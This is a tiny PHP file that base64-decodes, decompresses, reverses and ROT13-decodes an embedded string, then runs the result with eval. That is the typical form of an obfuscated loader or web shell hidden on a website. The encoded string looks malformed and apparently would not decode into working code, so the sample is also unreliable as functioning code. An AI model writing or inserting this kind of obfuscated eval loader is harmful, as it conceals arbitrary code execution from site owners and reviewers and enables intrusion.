<?php
$payload = "=8jYuJ3Ymx2Ywx2Y";
eval(str_rot13(strrev(gzuncompress(base64_decode($payload)))));
